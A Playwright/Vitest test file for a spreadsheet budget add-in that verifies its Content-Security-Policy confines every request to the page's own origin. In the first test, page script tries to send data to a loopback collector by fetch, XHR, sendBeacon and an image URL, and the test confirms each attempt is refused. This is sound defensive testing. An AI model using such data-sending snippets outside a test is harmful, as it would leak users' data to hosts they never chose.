// Private by construction: the production add-in page, loaded in real Chromium, requests nothing
// but its own origin, and its Content-Security-Policy refuses anything else. The production
// bundle holds no preview engine (HyperFormula is GPL-3.0 and preview-only), and the templates'
// code (ExcelJS, JSZip) is a chunk of its own, loaded from the add-in's origin only when the
// Templates panel needs it. Building templates and collecting returned files, run on the preview
// (the panel needs a workbook), request nothing beyond the page's own origin either: the files
// are made, zipped, offered and read in the page.
//
// The refusal is seen as the browser reports it: a securitypolicyviolation event in the page and
// a console message naming the address and the directive for each attempt, while a second
// loopback server, another origin that would answer every request, receives none of them.

import { readFileSync, readdirSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as XLSX from "xlsx";
import { launch, openPreview, serve } from "./browser";

const DIST = path.resolve("dist");
let server: Awaited<ReturnType<typeof serve>>;
let outside: { url: string; received: string[]; close: () => Promise<void> };
let browser: Browser;

/** Another origin on loopback that answers everything and remembers what reached it. */
async function collector(): Promise<typeof outside> {
  const received: string[] = [];
  const http: Server = createServer((req, res) => {
    received.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/plain" });
    res.end("collected");
  });
  await new Promise<void>((resolve) => http.listen(0, "127.0.0.1", resolve));
  const { port } = http.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    received,
    close: () => new Promise<void>((resolve) => http.close(() => resolve())),
  };
}

interface Violation {
  directive: string;
  blockedURI: string;
}

/** The page's window, with the violations it has reported so far. */
type Recording = Window & { violations?: Violation[] };

beforeAll(async () => {
  server = await serve(DIST);
  outside = await collector();
  browser = await launch();
});

afterAll(async () => {
  await browser?.close();
  await outside?.close();
  await server?.close();
});

describe("the production add-in", () => {
  it("loads the task pane with every request to its own origin and refuses every other origin", async () => {
    const page = await browser.newPage();
    const requests: string[] = [];
    const refusals: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    const failures = new Map<string, string | undefined>();
    page.on("requestfailed", (request) => failures.set(request.url(), request.failure()?.errorText));
    page.on("console", (message) => {
      if (/Content Security Policy/i.test(message.text())) refusals.push(message.text());
    });
    await page.addInitScript(() => {
      const violations: Violation[] = [];
      (window as Recording).violations = violations;
      document.addEventListener("securitypolicyviolation", (event) =>
        violations.push({ directive: event.effectiveDirective, blockedURI: event.blockedURI }),
      );
    });
    await page.goto(`${server.url}/taskpane.html`);
    await page.waitForLoadState("networkidle");

    // a page script that tries to send data elsewhere, in four ways
    const sameOrigin = await page.evaluate(async (to) => {
      await fetch(`${to}/fetch`, { method: "POST", body: "budget" }).catch(() => undefined);
      await new Promise<void>((resolve) => {
        const request = new XMLHttpRequest();
        request.onloadend = () => resolve();
        try {
          request.open("POST", `${to}/xhr`);
          request.send("budget");
        } catch {
          resolve();
        }
      });
      navigator.sendBeacon(`${to}/beacon`, "budget");
      await new Promise<void>((resolve) => {
        const image = new Image();
        image.onload = image.onerror = () => resolve();
        image.src = `${to}/image.png?budget`;
      });
      // while the add-in's own origin answers as ever
      const own = await fetch("functions.json");
      return own.status;
    }, outside.url);
    expect(sameOrigin).toBe(200);

    // each is refused by the directive for its kind of request, and so is the frame that
    // Office.js, outside an Office client, opens to Microsoft's telemetry service 3 s after it
    // loads; Chromium reports each in the page and logs it naming the address and the directive.
    // Nothing else is refused: no script of the add-in's evaluates code.
    const refused: [Violation, string][] = [
      [{ directive: "connect-src", blockedURI: `${outside.url}/fetch` }, "connect-src 'self'"],
      [{ directive: "connect-src", blockedURI: `${outside.url}/xhr` }, "connect-src 'self'"],
      [{ directive: "connect-src", blockedURI: `${outside.url}/beacon` }, "connect-src 'self'"],
      [{ directive: "img-src", blockedURI: `${outside.url}/image.png?budget` }, "img-src 'self' data:"],
      [{ directive: "frame-src", blockedURI: "https://telemetryservice.firstpartyapps.oaspapps.com" }, "default-src 'self'"],
    ];
    const byURI = (a: Violation, b: Violation) => a.blockedURI.localeCompare(b.blockedURI);
    await expect
      .poll(async () => (await page.evaluate(() => (window as Recording).violations ?? [])).sort(byURI), { timeout: 10_000 })
      .toEqual(refused.map(([violation]) => violation).sort(byURI));
    const logged = ([{ blockedURI }, policy]: [Violation, string]) =>
      refusals.some((text) => text.includes(blockedURI) && text.includes(`directive: "${policy}"`));
    await expect.poll(() => refused.filter(logged).length, { timeout: 5_000 }).toBe(refused.length);
    // and it logs no refusal of anything else
    const unexplained = refusals.filter((text) => !refused.some(([{ blockedURI }]) => text.includes(blockedURI)));
    expect(unexplained).toEqual([]);

    // the policy stops each attempt before it leaves the page: the other origin hears nothing,
    // and what Chromium began to request there (the XHR and the image) failed on the policy
    expect(outside.received).toEqual([]);
    const foreign = requests.filter((url) => !url.startsWith(server.url) && !url.startsWith("data:"));
    expect(foreign.map((url) => failures.get(url))).toEqual(foreign.map(() => "csp"));
    expect(requests.some((url) => url.endsWith("/office-js/office.js"))).toBe(true);
    expect(requests.some((url) => url.endsWith("/taskpane.js"))).toBe(true);
    // one bundle: the custom functions are registered from taskpane.js, each module parsed once
    expect(requests.some((url) => url.endsWith("/functions.js"))).toBe(false);
    expect(requests.some((url) => url.endsWith("/functions.json"))).toBe(true);
    // the Templates panel and the templates' chunk wait until they are needed
    expect(requests.some((url) => url.endsWith("/templatesPanel.js"))).toBe(false);
    expect(requests.some((url) => url.endsWith("/templates.js"))).toBe(false);
    await page.close();
  });

  it("bundles no HyperFormula, keeps ExcelJS out of the task pane's start-up, and names no outside host for Office.js", () => {
    const bundles = readdirSync(DIST).filter((file) => file.endsWith(".js"));
    expect(bundles.sort()).toEqual(["functions.js", "taskpane.js", "templates.js", "templatesPanel.js"]);
    for (const bundle of bundles) {
      expect(readFileSync(path.join(DIST, bundle), "utf8")).not.toMatch(/hyperformula/i);
    }
    // the .xlsx and .zip code is in the chunk, none of it in what the task pane starts with
    const xlsxMarks = ["xl/workbook.xml", "dataValidations", "sharedStrings"];
    const templates = readFileSync(path.join(DIST, "templates.js"), "utf8");
    for (const mark of xlsxMarks) expect(templates, mark).toContain(mark);
    for (const bundle of ["taskpane.js", "functions.js"]) {
      const code = readFileSync(path.join(DIST, bundle), "utf8");
      for (const mark of xlsxMarks) expect(code, `${bundle}: ${mark}`).not.toContain(mark);
    }
    const html = readFileSync(path.join(DIST, "taskpane.html"), "utf8");
    // the page loads Office.js and one bundle of its own, which registers the custom functions too
    expect([...html.matchAll(/<script[^>]*\ssrc="?([^"\s>]+)/g)].map((m) => m[1])).toEqual(["office-js/office.js", "taskpane.js"]);
    expect(readFileSync(path.join(DIST, "taskpane.js"), "utf8")).toContain("CustomFunctions.associate");
    expect(html).not.toContain("appsforoffice.microsoft.com");
    expect(html).toContain("connect-src 'self'");
  });
});

describe("the Templates panel", () => {
  it("builds, downloads, reads and collects with no request beyond the page's own origin", async () => {
    const preview = await openPreview(1100, "en");
    const { page } = preview;
    try {
      const origin = new URL(page.url()).origin;
      const requests: string[] = [];
      page.on("request", (request) => requests.push(request.url()));
      const cell = (ref: string) => page.locator(`[data-cell="${ref}"]`);
      const select = async (sheet: string, from: string, to: string) => {
        await page.getByTestId(`sheet-${sheet}`).click();
        await cell(from).dispatchEvent("mousedown");
        await cell(to).dispatchEvent("mousedown", { shiftKey: true });
      };
      await select("Skabelonlinjer", "A1", "H30");
      await page.getByTestId("tab-templates").click();
      await page.getByTestId("tp-use-selection").click();
      await select("Rammer", "A1", "C7");
      await page.getByTestId("tp-frames-selection").click();
      await page.getByTestId("tp-write").click();
      await expect.poll(() => page.getByTestId("tp-status").textContent(), { timeout: 30_000 }).toMatch(/^Built 6 templates/);
      // the templates' chunk came from the page's own origin, when the panel needed it
      expect(requests.filter((url) => url.endsWith("/templates.js"))).toEqual([`${origin}/templates.js`]);
      expect(requests.filter((url) => url.endsWith("/templatesPanel.js"))).toEqual([`${origin}/templatesPanel.js`]);
      const [zip] = await Promise.all([page.waitForEvent("download"), page.getByTestId("tp-download-zip").click()]);
      const [one] = await Promise.all([page.waitForEvent("download"), page.getByTestId("tp-download-4101").click()]);
      expect(zip.suggestedFilename()).toMatch(/^Budget templates \d{4}\.zip$/);
      expect(one.suggestedFilename()).toMatch(/^\d{4} 4101 Kardiologisk afd\.xlsx$/);
      // the template sent back as it is, picked with the file picker
      const file = readFileSync(await one.path());
      await page.getByTestId("tp-part-collect").click();
      await page.getByTestId("tc-files").setInputFiles([{ name: one.suggestedFilename(), mimeType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", buffer: file }]);
      await expect.poll(() => page.getByTestId("tc-file-0-status").textContent(), { timeout: 30_000 }).toBeTruthy();
      await page.getByTestId("tc-write").click();
      await expect.poll(() => page.getByTestId("tc-status").textContent()).toMatch(/^Collected 1 file/);
      // every request went to the page's origin; the downloads are the page's own blobs
      const elsewhere = requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith(`blob:${origin}/`) && !url.startsWith("data:"));
      expect(elsewhere).toEqual([]);
      expect(outside.received).toEqual([]);
    } finally {
      await preview.close();
    }
  });
});

describe("the preview's Open .xlsx and Save as .xlsx", () => {
  it("read and make the file in the page, loading the .xlsx code only when asked, with no request beyond the page's own origin", async () => {
    const preview = await openPreview(900, "en");
    const { page } = preview;
    try {
      const origin = new URL(page.url()).origin;
      const requests: string[] = [];
      page.on("request", (request) => requests.push(request.url()));
      await page.waitForLoadState("networkidle");
      // the preview starts without the .xlsx code
      const started = await page.evaluate(() => performance.getEntriesByType("resource").map((entry) => entry.name));
      expect(started.filter((url) => url.endsWith("/templates.js"))).toEqual([]);
      const workbook = XLSX.utils.book_new();
      XLSX.utils.book_append_sheet(workbook, XLSX.utils.aoa_to_sheet([["Konto", "Beløb"], ["4101", 1234.5]]), "Ark1");
      const buffer = Buffer.from(XLSX.write(workbook, { type: "buffer", bookType: "xlsx" }) as Buffer);
      await page.getByTestId("open-xlsx-input").setInputFiles([{ name: "Eget.xlsx", mimeType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", buffer }]);
      await expect.poll(() => page.getByTestId("file-status").textContent(), { timeout: 30_000 }).toBe('Opened "Eget.xlsx": 1 sheet. The file stays in this browser.');
      const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("save-xlsx").click()]);
      expect(download.suggestedFilename()).toBe("Eget-preview.xlsx");
      // the .xlsx code came once, from the page's own origin, when the file was opened
      expect(requests.filter((url) => url.endsWith("/templates.js"))).toEqual([`${origin}/templates.js`]);
      const elsewhere = requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith(`blob:${origin}/`) && !url.startsWith("data:"));
      expect(elsewhere).toEqual([]);
      expect(outside.received).toEqual([]);
    } finally {
      await preview.close();
    }
  });
});
